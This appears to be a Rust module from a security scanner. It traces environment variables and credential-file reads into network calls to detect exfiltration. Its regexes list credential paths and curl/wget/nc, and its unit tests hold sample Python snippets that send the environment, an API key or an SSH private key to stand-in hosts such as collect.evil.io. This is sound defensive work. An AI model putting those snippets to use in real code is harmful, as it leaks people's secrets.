//! A lightweight per-file taint pass: values read from the environment or from credential files
//! are followed through assignments to network calls. Co-occurrence is not enough — the value (or
//! a variable derived from it) has to appear in the call's arguments.
//!
//! Sending one named key as an auth header to a host the manifest declares is how APIs are used;
//! that is recorded at low severity. Sending the whole environment, a credential file, or a key in
//! a body or to an undeclared or environment-chosen destination is exfiltration.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::Regex;
use sigma_shared::domain::Severity;

use crate::context::{Role, TextMap};
use crate::finding::{Confidence, Finding, MatchContext, RuleCategory, snippet};

static ENV_SOURCE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u:\b)(os\.environ(?-u:\b)|os\.getenv\s*\(|process\.env(?-u:\b)|Deno\.env\.get\s*\(|Bun\.env(?-u:\b)|getenv\s*\(|ENV\[)"#).unwrap()
});
/// The whole environment, not one variable.
static ENV_HARVEST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(dict\s*\(\s*os\.environ\s*\)|os\.environ\.(copy|items)\s*\(|\{\s*\*\*os\.environ|JSON\.stringify\s*\(\s*process\.env\s*\)|Object\.(entries|keys|assign)\s*\([^)]*process\.env\s*\)|\.\.\.process\.env(?-u:\b)|os\.environ\s*[,)\]}]|process\.env\s*[,)\]}]|\$\(\s*(env|printenv)\s*\)|`(env|printenv)`)"#).unwrap()
});
static CRED_SOURCE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(\.ssh/|id_rsa|id_ed25519|\.aws/credentials|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.docker/config\.json|\.kube/config|wallet\.dat|\.config/solana|keystore|/etc/passwd|/etc/shadow|(^|[/'"])\.env['"])"#).unwrap()
});
static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^\s*(?:(?:const|let|var|export|local)\s+)?([A-Za-z_$][\w$]*)\s*(?::\s*[\w\[\], |]+)?\s*(?:\+|\|\|)?=\s*([^=].*)$"#).unwrap()
});
/// `for k, v in <expr>:` (Python) and `for (const x of <expr>)` (JavaScript).
static FOR_LOOP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^\s*for\s*\(?\s*(?:const|let|var)?\s*\[?([A-Za-z_$][\w$]*)(?:\s*,\s*([A-Za-z_$][\w$]*))?\]?\s+(?:in|of)\s+(.+?)\)?\s*[:{]?\s*$"#).unwrap()
});
/// `name[...] = v`, `name.attr = v`, `name.append(v)`, `name.update(v)`, `name.push(v)`.
static MUTATE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^\s*([A-Za-z_$][\w$]*)(?:\[[^\]]*\]|\.[A-Za-z_$][\w$]*)\s*(?:=\s*([^=].*)|\((.*)\)\s*;?)$"#).unwrap()
});
static DEF: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^\s*(?:async\s+)?(?:def|function)\s+([A-Za-z_$][\w$]*)\s*\("#).unwrap()
});
static RETURN: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"^\s*return\s+(.+)$"#).unwrap());
static WITH_OPEN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"with\s+open\s*\((.*)\)\s*as\s+([A-Za-z_]\w*)"#).unwrap());
static SINK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u:\b)(requests\.(get|post|put|patch|delete|request)|httpx\.(get|post|put|patch|request|AsyncClient|Client)|session\.(get|post|put)|client\.(get|post|put)|urllib\.request\.(urlopen|Request)|urlopen|aiohttp\.[\w.]+|fetch|axios(\.(get|post|put|patch|request))?|https?\.(request|get)|got(\.(post|get))?|needle|superagent\.(post|get)|\.sendall|\.send|socket\.create_connection|navigator\.sendBeacon|smtplib\.SMTP\w*|Net::HTTP\.(post|get)\w*|Invoke-(WebRequest|RestMethod))\s*\("#).unwrap()
});
static SHELL_SINK: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?-u:\b)(curl|wget|nc)\s+[^\n]*"#).unwrap());
static AUTH_CONTEXT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(headers|authorization|bearer|x-api-key|api-key|auth\s*=|apikey|token\s*=)"#)
        .unwrap()
});
static URL_HOST: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"https?://([A-Za-z0-9.-]+)"#).unwrap());

/// The argument text of the call whose `(` ends at `open`: up to the matching `)`, bounded.
fn call_args(text: &str, open: usize) -> &str {
    let bytes = text.as_bytes();
    let mut depth = 0i32;
    let limit = (open + 2000).min(text.len());
    let mut end = limit;
    for (i, b) in bytes.iter().enumerate().take(limit).skip(open) {
        match b {
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth == 0 {
                    end = i;
                    break;
                }
            }
            _ => {}
        }
    }
    let mut end = end.min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[open..end]
}

fn mentions(args: &str, names: &BTreeSet<String>) -> Option<String> {
    names
        .iter()
        .find(|name| {
            let mut from = 0;
            while let Some(at) = args[from..].find(name.as_str()) {
                let start = from + at;
                let end = start + name.len();
                let before = args[..start].chars().next_back();
                let after = args[end..].chars().next();
                let boundary = |c: Option<char>| {
                    !c.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$')
                };
                if boundary(before) && boundary(after) {
                    return true;
                }
                from = end;
            }
            false
        })
        .cloned()
}

#[derive(Clone, Copy)]
enum Kind {
    Env,
    Harvest,
    Cred,
}

#[derive(Default)]
struct Tainted {
    env: BTreeSet<String>,
    harvest: BTreeSet<String>,
    cred: BTreeSet<String>,
    /// `name(` of functions that return tainted values, per kind.
    env_calls: BTreeSet<String>,
    harvest_calls: BTreeSet<String>,
    cred_calls: BTreeSet<String>,
}

impl Tainted {
    fn size(&self) -> usize {
        self.env.len()
            + self.harvest.len()
            + self.cred.len()
            + self.env_calls.len()
            + self.harvest_calls.len()
            + self.cred_calls.len()
    }

    fn vars(&mut self, kind: Kind) -> &mut BTreeSet<String> {
        match kind {
            Kind::Env => &mut self.env,
            Kind::Harvest => &mut self.harvest,
            Kind::Cred => &mut self.cred,
        }
    }

    fn calls(&mut self, kind: Kind) -> &mut BTreeSet<String> {
        match kind {
            Kind::Env => &mut self.env_calls,
            Kind::Harvest => &mut self.harvest_calls,
            Kind::Cred => &mut self.cred_calls,
        }
    }

    /// The strongest taint an expression carries, if any.
    fn kind_of(&self, expr: &str) -> Option<Kind> {
        let calls = |set: &BTreeSet<String>| set.iter().any(|f| expr.contains(f.as_str()));
        if ENV_HARVEST.is_match(expr)
            || mentions(expr, &self.harvest).is_some()
            || calls(&self.harvest_calls)
        {
            Some(Kind::Harvest)
        } else if mentions(expr, &self.cred).is_some() || calls(&self.cred_calls) {
            Some(Kind::Cred)
        } else if ENV_SOURCE.is_match(expr)
            || mentions(expr, &self.env).is_some()
            || calls(&self.env_calls)
        {
            Some(Kind::Env)
        } else {
            None
        }
    }
}

pub fn scan(
    path: &str,
    map: &TextMap<'_>,
    declared_hosts: &BTreeSet<String>,
    out: &mut Vec<Finding>,
) {
    let text = map.text;
    if !SINK.is_match(text) && !SHELL_SINK.is_match(text) {
        return;
    }
    let mut t = Tainted::default();
    let lines: Vec<&str> = text.lines().collect();
    // Propagate through assignments until nothing changes (bounded: taint only grows).
    for _ in 0..4 {
        let before = t.size();
        let mut function: Option<String> = None;
        for line in &lines {
            if let Some(c) = DEF.captures(line) {
                function = Some(c[1].to_owned());
            }
            // A function returning a tainted value taints its calls (`secrets = harvest()`).
            if let (Some(name), Some(c)) = (&function, RETURN.captures(line)) {
                let kind = t.kind_of(&c[1]);
                if let Some(kind) = kind {
                    t.calls(kind).insert(format!("{name}("));
                }
            }
            // Loop variables over the environment or a tainted collection.
            if let Some(c) = FOR_LOOP.captures(line) {
                let iter = &c[3];
                let kind = if iter.contains("os.environ") || iter.contains("process.env") {
                    Some(Kind::Harvest)
                } else {
                    t.kind_of(iter)
                };
                if let Some(kind) = kind {
                    let vars = [
                        Some(c[1].to_owned()),
                        c.get(2).map(|m| m.as_str().to_owned()),
                    ];
                    t.vars(kind).extend(vars.into_iter().flatten());
                }
            }
            // `found[key] = value`, `items.append(value)`: the container becomes tainted.
            if let Some(c) = MUTATE.captures(line) {
                let rhs = c.get(2).or(c.get(3)).map_or("", |m| m.as_str());
                if let Some(kind) = t.kind_of(rhs) {
                    t.vars(kind).insert(c[1].to_owned());
                }
            }
            if let Some(c) = WITH_OPEN.captures(line)
                && (CRED_SOURCE.is_match(&c[1]) || mentions(&c[1], &t.cred).is_some())
            {
                t.cred.insert(c[2].to_owned());
            }
            let Some(c) = ASSIGN.captures(line) else {
                continue;
            };
            let (name, rhs) = (c[1].to_owned(), &c[2]);
            let reads_credentials = CRED_SOURCE.is_match(rhs)
                && (rhs.contains("open")
                    || rhs.contains("read")
                    || rhs.contains("Path")
                    || rhs.contains("join"));
            if reads_credentials {
                t.cred.insert(name);
            } else if let Some(kind) = t.kind_of(rhs) {
                t.vars(kind).insert(name);
            }
        }
        if t.size() == before {
            break;
        }
    }
    let mut reported = BTreeSet::new();
    let mut report = |offset: usize,
                      severity: Severity,
                      id: &str,
                      message: String,
                      call: &str,
                      out: &mut Vec<Finding>| {
        let line = map.line(offset);
        if !reported.insert((line, id.to_owned())) {
            return;
        }
        let context = map.context(offset);
        let (severity, confidence) = match (context, map.role) {
            (MatchContext::Comment, _) => (
                crate::finding::severity_shift(severity, -2),
                Confidence::Low,
            ),
            (_, Role::Test) => (
                crate::finding::severity_shift(severity, -1),
                Confidence::Medium,
            ),
            _ => (severity, Confidence::High),
        };
        out.push(Finding {
            rule_id: id.into(),
            category: RuleCategory::Exfiltration,
            severity,
            confidence,
            context,
            file: path.into(),
            line: Some(line),
            snippet: Some(snippet(call)),
            message,
            remediation: Some("Send only the data the task needs to declared hosts; never forward environment variables or credential files.".into()),
            blocks: id == "TAINT-001" && confidence == Confidence::High,
        });
    };
    for m in SINK.find_iter(text) {
        let args = call_args(text, m.end() - 1);
        let call = &text[m.start()..m.end() - 1 + args.len()];
        if ENV_HARVEST.is_match(args) || mentions(args, &t.harvest).is_some() {
            report(
                m.start(),
                Severity::Critical,
                "TAINT-001",
                "the whole environment is sent over the network".into(),
                call,
                out,
            );
        } else if CRED_SOURCE.is_match(args) || mentions(args, &t.cred).is_some() {
            report(
                m.start(),
                Severity::Critical,
                "TAINT-002",
                "credential file contents flow into a network call".into(),
                call,
                out,
            );
        } else if let Some(var) = ENV_SOURCE
            .find(args)
            .map(|m| m.as_str().to_owned())
            .or_else(|| mentions(args, &t.env))
        {
            let hosts: Vec<String> = URL_HOST
                .captures_iter(args)
                .map(|c| c[1].to_ascii_lowercase())
                .collect();
            let to_declared =
                !hosts.is_empty() && hosts.iter().all(|h| host_declared(h, declared_hosts));
            // Is the tainted value only in the headers, with the destination a literal declared host?
            let first_arg = args.split(',').next().unwrap_or("");
            let url_from_env =
                ENV_SOURCE.is_match(first_arg) || mentions(first_arg, &t.env).is_some();
            let in_auth = args
                .find(var.as_str())
                .is_some_and(|at| AUTH_CONTEXT.is_match(&args[..at]));
            if url_from_env {
                report(
                    m.start(),
                    Severity::High,
                    "TAINT-004",
                    format!(
                        "network destination is chosen by the environment (`{var}`), so data can be redirected anywhere"
                    ),
                    call,
                    out,
                );
            } else if in_auth && to_declared {
                report(
                    m.start(),
                    Severity::Low,
                    "TAINT-005",
                    format!("`{var}` is sent as a credential to a declared host"),
                    call,
                    out,
                );
            } else {
                report(
                    m.start(),
                    Severity::High,
                    "TAINT-003",
                    format!(
                        "environment value `{var}` flows into a network call{}",
                        if hosts.is_empty() {
                            String::new()
                        } else {
                            format!(" to {}", hosts.join(", "))
                        }
                    ),
                    call,
                    out,
                );
            }
        }
    }
    for m in SHELL_SINK.find_iter(text) {
        let args = m.as_str();
        if ENV_HARVEST.is_match(args) {
            report(
                m.start(),
                Severity::Critical,
                "TAINT-001",
                "the whole environment is sent over the network".into(),
                args,
                out,
            );
        } else if CRED_SOURCE.is_match(args)
            && (args.contains("-d")
                || args.contains("--data")
                || args.contains("-F")
                || args.contains("--upload-file")
                || args.contains("-T"))
        {
            report(
                m.start(),
                Severity::Critical,
                "TAINT-002",
                "credential file contents are uploaded".into(),
                args,
                out,
            );
        }
    }
}

pub fn host_declared(host: &str, declared: &BTreeSet<String>) -> bool {
    declared
        .iter()
        .any(|d| host == d || host.ends_with(&format!(".{d}")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::content::FileKind;

    fn run(code: &str, declared: &[&str]) -> Vec<(String, Severity)> {
        let map = TextMap::new(code, FileKind::Code, Role::Code, Some("python"));
        let declared = declared.iter().map(|s| s.to_string()).collect();
        let mut out = Vec::new();
        scan("main.py", &map, &declared, &mut out);
        out.into_iter().map(|f| (f.rule_id, f.severity)).collect()
    }

    #[test]
    fn follows_values_not_co_occurrence() {
        // Reads env and makes a call, but the value never reaches the call.
        assert!(run("import os, requests\nhome = os.environ['HOME']\nprint(home)\nrequests.get('https://api.x.io')\n", &["api.x.io"]).is_empty());
        // Through two assignments into a POST body.
        assert_eq!(
            run(
                "import os\nk = os.environ['DATABRIDGE_API_KEY']\npayload = {'key': k}\nrequests.post('https://collect.evil.io', json=payload)\n",
                &[]
            ),
            [("TAINT-003".to_owned(), Severity::High)]
        );
        // Through a loop over the environment, a dict filled item by item, a function's return.
        assert_eq!(
            run(
                "def harvest():\n    found = {}\n    for key, value in os.environ.items():\n        found[key] = value\n    return found\n\ndef send():\n    secrets = harvest()\n    payload = {'env': secrets}\n    requests.post('https://x.io', json=payload)\n",
                &[]
            ),
            [("TAINT-001".to_owned(), Severity::Critical)]
        );
        assert_eq!(
            run("requests.post(URL, data=dict(os.environ))\n", &[]),
            [("TAINT-001".to_owned(), Severity::Critical)]
        );
        assert_eq!(
            run(
                "with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n    key = f.read()\nrequests.post('https://x.io', data=key)\n",
                &[]
            ),
            [("TAINT-002".to_owned(), Severity::Critical)]
        );
        assert_eq!(
            run(
                "endpoint = os.getenv('REPORT_ENDPOINT')\nrequests.post(endpoint, json={'n': 1, 'k': os.getenv('K')})\n",
                &[]
            ),
            [("TAINT-004".to_owned(), Severity::High)]
        );
        assert_eq!(
            run(
                "requests.get('https://api.x.io/v1', headers={'Authorization': f\"Bearer {os.environ['X_KEY']}\"})\n",
                &["api.x.io"]
            ),
            [("TAINT-005".to_owned(), Severity::Low)]
        );
    }
}
